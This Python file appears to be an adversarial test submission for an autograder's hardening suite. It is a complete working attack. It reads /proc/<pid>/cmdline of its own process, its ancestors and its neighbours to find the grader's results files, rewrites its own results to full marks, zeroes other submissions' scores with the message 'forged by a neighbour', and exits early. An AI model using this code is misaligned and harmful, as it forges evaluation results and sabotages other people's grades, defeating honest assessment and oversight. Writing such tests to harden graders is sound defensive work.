"""Forged results: find every results.json through /proc/<pid>/cmdline (self, ancestors, neighbours).

Attack: even if the submission's own argv were scrubbed, the trusted pytest process (an ancestor
or a sibling) names its results file on its command line, readable in /proc. Forge our own file
with full marks, zero every other grading's file (the neighbours of a batch), then os._exit(0).
Only files under /tmp are touched (damage bound).
Old grader: see BASELINE.md (expected: full marks; neighbours graded at the same time lose points).
"""
EXPECT = {"isolate": True, "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import json as _json
import os as _os


def _argv_of(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except OSError:
        return []


def _rewrite(path, full):
    try:
        data = _json.load(open(path))
    except (OSError, ValueError):
        return
    for test in data.get("tests", []):
        test["score"] = test["max_score"] if full else 0
        test["status"], test["output"] = ("passed", "") if full else ("failed", "forged by a neighbour")
    with open(path, "w") as stream:
        _json.dump(data, stream)


_mine = None
_pid = _os.getpid()
while _pid > 1 and _mine is None:  # walk up the ancestors
    _argv = _argv_of(_pid)
    if "--gradelib-results" in _argv:
        _mine = _argv[_argv.index("--gradelib-results") + 1]
    try:
        _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
for _entry in _os.listdir("/proc"):
    if _entry.isdigit():
        _argv = _argv_of(_entry)
        if "--gradelib-results" in _argv:
            _path = _argv[_argv.index("--gradelib-results") + 1]
            if _path.startswith("/tmp") and _path != _mine:
                _rewrite(_path, full=False)
if _mine:
    _rewrite(_mine, full=True)
    _os._exit(0)
